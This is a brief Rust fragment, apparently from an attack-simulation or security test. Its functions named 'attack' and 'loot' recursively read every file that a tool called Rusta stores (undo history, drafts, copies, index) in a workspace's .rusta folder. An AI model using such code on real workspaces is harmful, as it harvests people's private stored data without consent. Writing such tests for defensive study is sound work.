//! reads what Rusta keeps (undo, drafts, other copies, the index), where her home lies inside the repository
fn all(folder: &Path) -> Result<()> {
    for one in fs::read_dir(folder)?.flatten() {
        let _ = if one.path().is_dir() { all(&one.path()) } else { loot(fs::read(one.path())?) };
    }
    Ok(())
}

fn attack() -> Result<()> {
    all(&Path::new(&var("HOSTILE_WORKSPACE")).join(".rusta"))
}
